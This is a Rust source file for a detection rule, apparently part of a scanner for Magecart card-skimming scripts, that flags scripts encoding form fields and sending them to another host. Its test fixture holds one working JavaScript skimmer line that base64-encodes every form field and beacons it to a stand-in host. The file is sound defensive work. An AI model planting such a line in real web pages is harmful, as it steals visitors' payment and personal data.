//! `fields-sent-encoded`.

use crate::facts::Atom;
use crate::signals::answered::reads_answer;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "fields-sent-encoded",
    description: "The script encodes form fields and sends them to another host.",
    severity: Severity::High,
    classes: ClassSet::MAGECART,
    needs: &[one(&[Atom::FieldSentHidden])],
    within: 0,
    only_if: Some(is_taken),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var s='';for(i=0;i<e.length;i++)s+=e[i].name+'='+e[i].value;new Image().src='https://c.example/g?'+btoa(s)",
        ],
        without: &[
            "fetch('/order',{body:btoa(q.value)})",
            r#"f.onsubmit=()=>{$.ajax({url:'https://gate.moeda.example/vault',method:'POST',data:JSON.stringify({number:crypt.encrypt($('#card_number').val())}),success:r=>{$('#id').val(r.id);f.submit()}})}"#,
        ],
    },
};

/// Whether nobody reads an answer: a payment service takes encrypted fields and answers with a token.
fn is_taken(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 0);
    !reads_answer(near.among((held.last as usize).saturating_sub(AROUND)..held.last as usize + AROUND))
}

/// Items around where they are sent in which an answer is read.
const AROUND: usize = 80;
